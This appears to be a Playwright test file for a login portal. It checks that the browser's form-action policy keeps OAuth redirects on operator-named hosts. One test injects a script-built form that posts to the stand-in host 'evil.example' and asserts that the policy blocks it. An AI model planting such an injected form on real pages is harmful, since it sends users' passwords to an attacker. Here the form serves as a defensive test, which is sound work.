"""Chromium holds the redirects of a form to the policy: what it lets through, and what a person sees otherwise."""

from collections.abc import Callable, Iterator
from contextlib import ExitStack

import pytest
from playwright.sync_api import Browser, BrowserContext, expect

from tests.browser.portal_process import PortalProcess
from tests.upstreams.github_shaped import GithubShaped
from tests.upstreams.loopback_http import Answer, Received, redirect_reply

PORTAL = """
[emolytics]
title = "Acme"
public_url = "{url}"
database = "sqlite:///emolytics.db"
secret_key = {{ file = "secret_key" }}
"""
BACKEND = """
[backends.{name}]
type = "oauth"
label = "{name}"
insecure = true
client_id = "{provider.client_id}"
client_secret = "{provider.client_secret}"
authorize_url = "{gate.url}/login/oauth/authorize"
token_url = "{provider.url}/login/oauth/access_token"
userinfo_url = "{provider.url}/user"
claims = {{ subject = "id", username = "login", groups = "" }}
onward_hosts = {onward}
"""

pytestmark = pytest.mark.needs("chromium")


class Gate(GithubShaped):
    """Sends whoever comes on to another provider, before it has shown a page."""

    def __init__(self, provider: GithubShaped) -> None:
        self._provider = provider
        super().__init__()

    def respond(self, received: Received) -> Answer:
        return redirect_reply(f"{self._provider.url}{received.target}")


class PortalBehindGates(PortalProcess):
    """Was told where one of its providers sends people on to, and not where the other does."""

    def __init__(self, named: Gate, unnamed: Gate, behind: tuple[GithubShaped, GithubShaped]) -> None:
        super().__init__()
        self._gates, self._behind = (named, unnamed), behind

    def prepare(self) -> None:
        told = PORTAL.format(url=self.url)
        onward = (f'["127.0.0.1:{self._behind[0].port}"]', "[]")
        for name, gate, provider, hosts in zip(
            ("Named", "Unnamed"), self._gates, self._behind, onward, strict=True
        ):
            told += BACKEND.format(name=name.lower(), provider=provider, gate=gate, onward=hosts)
        (self.directory / "settings.toml").write_text(told)


@pytest.fixture(scope="module")
def portal() -> Iterator[PortalProcess]:
    with ExitStack() as stack:
        behind = (stack.enter_context(GithubShaped()), stack.enter_context(GithubShaped()))
        named, unnamed = (stack.enter_context(Gate(provider)) for provider in behind)
        yield stack.enter_context(PortalBehindGates(named, unnamed, behind))


@pytest.fixture
def new_browser(chromium: Browser, portal: PortalProcess) -> Iterator[Callable[[], BrowserContext]]:
    contexts: list[BrowserContext] = []

    def new() -> BrowserContext:
        contexts.append(chromium.new_context(base_url=portal.url))
        contexts[-1].set_default_timeout(10_000)
        return contexts[-1]

    yield new
    for context in contexts:
        context.close()


def test_a_browser_follows_a_provider_to_a_host_that_the_operator_named(
    new_browser: Callable[[], BrowserContext],
) -> None:
    page = new_browser().new_page()
    page.goto("/login")

    page.get_by_role("button", name="Sign in with named").click()
    page.get_by_role("button", name="Authorize").click()

    expect(page.get_by_role("heading", name="Welcome")).to_be_visible()


def test_a_browser_that_is_not_let_on_says_so_and_the_form_can_be_sent_again(
    new_browser: Callable[[], BrowserContext],
) -> None:
    page = new_browser().new_page()
    page.goto("/login")

    page.get_by_role("button", name="Sign in with unnamed").click(no_wait_after=True)

    expect(page.get_by_role("alert")).to_contain_text("The browser was not let on")
    page.get_by_role("button", name="Sign in with named").click()
    expect(page.get_by_role("button", name="Authorize")).to_be_visible()


def test_a_form_that_somebody_smuggled_in_sends_a_password_nowhere_else(
    new_browser: Callable[[], BrowserContext], portal: PortalProcess
) -> None:
    page = new_browser().new_page()
    page.goto("/login")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))

    blocked = page.evaluate(
        """() => new Promise((resolve) => {
            addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
            const form = document.createElement("form");
            form.action = "https://evil.example/";
            form.method = "post";
            document.body.append(form);
            form.submit();
        })"""
    )

    assert blocked == "form-action"
    assert [url for url in asked if not url.startswith(portal.url)] == []
